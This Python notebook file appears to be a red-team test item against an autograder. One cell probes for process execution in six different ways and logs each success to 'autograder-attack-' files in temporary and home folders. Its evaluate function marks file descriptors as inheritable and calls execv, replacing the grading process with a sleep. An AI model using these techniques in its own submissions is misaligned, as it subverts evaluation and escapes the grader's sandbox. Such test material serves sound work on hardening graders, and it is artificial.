"""Replaces itself by another program that holds the wire, and starts shells by every way there is.

family: endings
start: solved
loses: q6 q8
"""

# %% first
_done = []


def _achieved(what, stem="exec_other_program"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

import os
import subprocess

for _start in (
    lambda: subprocess.run(["id"], capture_output=True, timeout=5).stdout,
    lambda: os.popen("id").read().encode(),
    lambda: b"ran" if os.system("true") == 0 else b"",
    lambda: b"ran" if os.spawnv(os.P_WAIT, "/bin/true", ["true"]) == 0 else b"",
    lambda: b"ran" if os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)[1] == 0 else b"",
    lambda: get_ipython().getoutput("id")[0].encode(),
):
    try:
        _said = _start()
        if _said:
            _achieved(f"started a program: {_said[:60]!r}")
    except Exception:
        continue

# %% evaluate
def evaluate(model, dataset):
    import os

    for fd in range(3, 64):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    os.execv("/bin/sleep", ["sleep", "100"])

# %% after plot
_report()
